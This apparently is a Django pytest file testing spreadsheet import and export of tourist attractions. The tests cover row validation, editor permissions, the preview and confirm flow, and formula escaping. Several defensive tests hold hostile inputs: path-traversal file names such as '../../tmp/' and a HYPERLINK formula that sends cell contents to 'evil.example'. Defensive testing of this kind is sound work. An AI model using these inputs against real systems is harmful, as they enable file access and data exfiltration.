"""Spreadsheets in and out: a preview, errors row by row, only the good rows of a confirmed file saved."""

import csv
import io
import os
import tempfile
import time

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.translation import gettext
from openpyxl import Workbook, load_workbook

from attractions.models import Attraction
from attractions.resources import AttractionResource
from attractions.tests.factories import make_attraction
from editorial.imports import UserImportStorage
from listings.models import Status
from listings.tests.factories import make_region
from villages.models import Village

from .factories import make_county_editor, make_province_editor, make_publisher

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"
HEADER = ["slug", "name_zh_hans", "name_en", "county", "category", "a_level", "latitude", "longitude", "ticket_price"]
GOOD_ROWS = [
    ["jingxin-wetland", "敬信湿地", "Jingxin Wetland", "hunchun", "natural", "4", "42.55", "130.62", "30"],
    ["quanhe-port", "圈河口岸", "Quanhe Port", "hunchun", "border", "0", "42.52", "130.56", "0"],
]


def csv_file(rows, header=HEADER):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return SimpleUploadedFile("attractions.csv", buffer.getvalue().encode(), content_type="text/csv")


def xlsx_file(rows, header=HEADER):
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile(
        "attractions.xlsx",
        buffer.getvalue(),
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


def upload(client, file, file_format=CSV_FORMAT):
    return client.post(reverse("admin:attractions_attraction_import"), {"import_file": file, "format": file_format})


def confirm(client, preview):
    form = preview.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    return client.post(reverse("admin:attractions_attraction_process_import"), data)


@pytest.fixture
def hunchun():
    return make_region("hunchun")


@pytest.fixture
def editor(client, hunchun):
    client.force_login(make_province_editor())
    return client


def test_a_good_csv_is_previewed_then_imported_as_drafts(editor):
    preview = upload(editor, csv_file(GOOD_ROWS))
    assert preview.status_code == 200
    assert not preview.context["result"].has_errors()
    assert not preview.context["result"].has_validation_errors()
    assert not Attraction.objects.exists()  # the preview saves nothing
    assert confirm(editor, preview).status_code == 302
    imported = Attraction.objects.get(slug="jingxin-wetland")
    assert (imported.name_zh_hans, imported.region.slug, imported.status) == ("敬信湿地", "hunchun", Status.DRAFT)
    assert imported.history.latest().history_user is not None


def test_an_xlsx_file_imports_the_same_way(editor):
    preview = upload(editor, xlsx_file(GOOD_ROWS), XLSX_FORMAT)
    assert not preview.context["result"].has_validation_errors()
    confirm(editor, preview)
    assert Attraction.objects.filter(slug__in=["jingxin-wetland", "quanhe-port"]).count() == 2


@pytest.mark.parametrize(
    ("bad_row", "field"),
    [
        (["bad-position", "错位", "Misplaced", "hunchun", "natural", "0", "31.2", "121.5", ""], "latitude"),
        (["negative", "负价", "Negative", "hunchun", "natural", "0", "42.5", "130.5", "-5"], "ticket_price"),
        (["dup", "敬信湿地", "Duplicate", "hunchun", "natural", "0", "42.5", "130.5", ""], "name_zh_hans"),
        (["no-county", "无县", "Nowhere", "atlantis", "natural", "0", "42.5", "130.5", ""], "region"),
    ],
)
def test_a_bad_row_is_reported_by_row_and_field_and_only_the_good_rows_import(editor, bad_row, field):
    preview = upload(editor, csv_file([*GOOD_ROWS, bad_row]))
    result = preview.context["result"]
    invalid = result.invalid_rows
    assert [row.number for row in invalid] == [3]
    assert field in invalid[0].error_dict
    assert not Attraction.objects.exists()  # the preview saves nothing
    assert confirm(editor, preview).status_code == 302
    assert sorted(Attraction.objects.values_list("slug", flat=True)) == ["jingxin-wetland", "quanhe-port"]


def test_the_resource_itself_rolls_back_a_file_with_a_bad_row(hunchun):
    """Even outside the admin's preview: all or nothing."""
    from tablib import Dataset

    dataset = Dataset(headers=HEADER)
    for row in [*GOOD_ROWS, ["neg", "负价", "Negative", "hunchun", "natural", "0", "42.5", "130.5", "-5"]]:
        dataset.append(row)
    result = AttractionResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors()
    assert not Attraction.objects.exists()


def test_a_county_editor_cannot_import_into_another_county(client, hunchun):
    jian = make_region("jian")
    make_attraction(region=jian, slug="generals-tomb", name_zh_hans="将军坟")
    client.force_login(make_county_editor(hunchun))
    rows = [
        GOOD_ROWS[0],
        ["jian-new", "集安新景", "Ji'an new", "jian", "historical", "0", "41.15", "126.19", ""],
    ]
    preview = upload(client, csv_file(rows))
    assert [row.number for row in preview.context["result"].invalid_rows] == [2]
    renamed = ["generals-tomb", "改名", "Renamed", "hunchun", "historical", "0", "42.5", "130.5", ""]
    overwrite = upload(client, csv_file([renamed]))
    assert [row.number for row in overwrite.context["result"].invalid_rows] == [1]
    assert Attraction.objects.get(slug="generals-tomb").name_zh_hans == "将军坟"
    assert not Attraction.objects.filter(slug="jingxin-wetland").exists()


def test_a_publisher_cannot_import(client, hunchun):
    from .factories import make_publisher

    client.force_login(make_publisher())
    assert upload(client, csv_file(GOOD_ROWS)).status_code == 403


def test_the_filtered_list_exports_as_csv_and_xlsx(editor, hunchun):
    make_attraction(region=hunchun, slug="in-hunchun", name_zh_hans="珲春景点")
    make_attraction(region=make_region("jian"), slug="in-jian", name_zh_hans="集安景点")
    url = reverse("admin:attractions_attraction_export") + f"?region__id__exact={hunchun.pk}"
    response = editor.post(url, {"format": CSV_FORMAT, "resource": "", "export_items": []})
    if response.status_code == 200 and "export_items" in (response.context or {}).get("form", {}).fields:
        # The export form lists the filtered rows; post them back as the browser does.
        form = response.context["form"]
        fields = {f"attractionresource_{name}": "on" for name in AttractionResource().get_export_order()}
        response = editor.post(
            url,
            {"format": CSV_FORMAT, "export_items": [c[0] for c in form.fields["export_items"].choices], **fields},
        )
    body = response.content.decode("utf-8-sig")
    assert "in-hunchun" in body and "in-jian" not in body
    assert body.splitlines()[0].startswith("网址标识,名称（中文）,名称（英文）")  # headers in the editor's language


def test_village_import_works_too(editor, hunchun):
    header = ["slug", "name_zh_hans", "county", "culture", "homestays", "beds", "latitude", "longitude"]
    rows = [["new-village", "新村", "hunchun", "korean", "12", "40", "42.6", "130.4"]]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    file = SimpleUploadedFile("villages.csv", buffer.getvalue().encode(), content_type="text/csv")
    preview = editor.post(reverse("admin:villages_village_import"), {"import_file": file, "format": CSV_FORMAT})
    assert not preview.context["result"].has_validation_errors()
    form = preview.context["confirm_form"]
    editor.post(reverse("admin:villages_village_process_import"), {n: form.initial.get(n, "") for n in form.fields})
    assert Village.objects.get(slug="new-village").beds == 40


def test_an_exported_xlsx_reads_back(editor, hunchun):
    make_attraction(region=hunchun, slug="roundtrip")
    dataset = AttractionResource().export()
    book = load_workbook(io.BytesIO(dataset.export("xlsx")))
    assert book.active["A2"].value == "roundtrip"


# Files waiting between preview and confirmation --------------------------------------------------------


def confirm_data(preview):
    form = preview.context["confirm_form"]
    return {name: form.initial.get(name, "") for name in form.fields}


def process_import(client, data):
    return client.post(reverse("admin:attractions_attraction_process_import"), data)


@pytest.mark.parametrize("forged_name", ["../../tmp/{name}", "{name}", "/tmp/{name}"])  # noqa: S108 - the attack
def test_a_forged_file_name_neither_reads_nor_deletes_a_file_of_the_server(editor, forged_name):
    """The confirmation names a file; a name that is not a waiting upload of this user is refused."""
    with tempfile.NamedTemporaryFile("w", suffix=".csv", dir=tempfile.gettempdir(), delete=False) as other:
        csv.writer(other).writerows([HEADER, *GOOD_ROWS])
    try:
        name = forged_name.format(name=os.path.basename(other.name))
        data = {"import_file_name": name, "original_file_name": "x.csv", "format": CSV_FORMAT, "resource": ""}
        response = process_import(editor, data)
        assert response.status_code == 200
        assert "import_file_name" in response.context["confirm_form"].errors
        assert os.path.exists(other.name)
        assert not Attraction.objects.exists()
    finally:
        os.remove(other.name)


def test_a_waiting_file_is_confirmed_only_by_who_uploaded_it(client, hunchun):
    uploader, other = make_province_editor(), make_province_editor()
    client.force_login(uploader)
    data = confirm_data(upload(client, csv_file(GOOD_ROWS)))
    assert not os.path.exists(os.path.join(tempfile.gettempdir(), data["import_file_name"]))  # not on disk

    client.force_login(other)
    refused = process_import(client, data)
    assert refused.status_code == 200
    assert "import_file_name" in refused.context["confirm_form"].errors
    expired = "This file is no longer waiting to be imported (it was imported, or it expired). Upload it again."
    assert gettext(expired) in refused.content.decode()
    assert not Attraction.objects.exists()

    client.force_login(uploader)
    assert process_import(client, data).status_code == 302
    assert Attraction.objects.count() == 2
    again = process_import(client, data)  # imported: the file is gone
    assert "import_file_name" in again.context["confirm_form"].errors


def test_a_refused_preview_keeps_no_file(editor):
    """Nothing waits for a confirmation that cannot come: no row of the file can be imported."""
    bad_row = ["negative", "负价", "Negative", "hunchun", "natural", "0", "42.5", "130.5", "-5"]
    preview = upload(editor, csv_file([bad_row]))
    assert "confirm_form" not in preview.context
    name = preview.context["form"].cleaned_data["import_file"].tmp_storage_name
    assert not os.path.exists(os.path.join(tempfile.gettempdir(), name))
    assert cache.get(UserImportStorage.CACHE_PREFIX + name) is None


def test_an_abandoned_file_expires(editor, settings):
    settings.IMPORT_FILE_LIFETIME = 1  # seconds; the cache (Redis in tests too) keeps its own clock
    data = confirm_data(upload(editor, csv_file(GOOD_ROWS)))
    time.sleep(1.5)
    response = process_import(editor, data)
    assert "import_file_name" in response.context["confirm_form"].errors
    assert not Attraction.objects.exists()


# Formulas ------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def export(client, file_format):
    url = reverse("admin:attractions_attraction_export")
    fields = {f"attractionresource_{name}": "on" for name in AttractionResource().get_export_order()}
    return client.post(url, {"format": file_format, "resource": "0", **fields})


@pytest.fixture
def formula_listing(client, hunchun):
    """A listing whose English name an editor imported as a formula."""
    client.force_login(make_province_editor())
    row = ["formula", "公式", FORMULA, "hunchun", "natural", "0", "42.55", "130.62", ""]
    process_import(client, confirm_data(upload(client, csv_file([row]))))
    return Attraction.objects.get(slug="formula")


def test_an_imported_formula_is_stored_as_the_text_it_is(formula_listing):
    assert formula_listing.name_en == FORMULA


def test_an_imported_xlsx_formula_cell_is_stored_as_its_text_not_its_value(editor):
    row = ["formula", "公式", "=1+1", "hunchun", "natural", "0", "42.55", "130.62", ""]
    process_import(editor, confirm_data(upload(editor, xlsx_file([row]), XLSX_FORMAT)))
    assert Attraction.objects.get(slug="formula").name_en == "=1+1"


def test_the_csv_export_escapes_formulas(formula_listing, client):
    client.force_login(make_publisher())  # another user
    rows = list(csv.DictReader(io.StringIO(export(client, CSV_FORMAT).content.decode("utf-8-sig"))))
    assert rows[0]["名称（英文）"] == f"'{FORMULA}"
    assert rows[0]["纬度"] == "42.55"  # numbers stay numbers


def test_the_xlsx_export_holds_formulas_as_text(formula_listing, client):
    client.force_login(make_publisher())
    sheet = load_workbook(io.BytesIO(export(client, XLSX_FORMAT).content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("名称（英文）") + 1)
    assert (cell.value, cell.data_type) == (f"'{FORMULA}", "s")


def test_an_exported_formula_imported_again_is_the_same_text(formula_listing, client):
    exported = export(client, CSV_FORMAT).content
    file = SimpleUploadedFile("again.csv", exported, content_type="text/csv")
    process_import(client, confirm_data(upload(client, file)))
    assert Attraction.objects.get(slug="formula").name_en == FORMULA


def test_the_preview_shows_labels_not_stored_values_and_the_export_keeps_the_values(editor, hunchun):
    rows = [[*GOOD_ROWS[0], "spring, autumn"]]
    preview = upload(editor, csv_file(rows, header=[*HEADER, "best_seasons"]))
    cells = [str(cell) for row in preview.context["result"].valid_rows() for cell in row.diff]
    assert "春季、秋季" in " ".join(cells)
    assert "自然风光" in " ".join(cells)
    assert "spring, autumn" not in " ".join(cells) and "natural" not in cells
    confirm(editor, preview)
    assert Attraction.objects.get(slug="jingxin-wetland").best_seasons == ["spring", "autumn"]
    # The export still writes the stored values, which an import reads back.
    assert AttractionResource().export().csv.count("spring, autumn") == 1
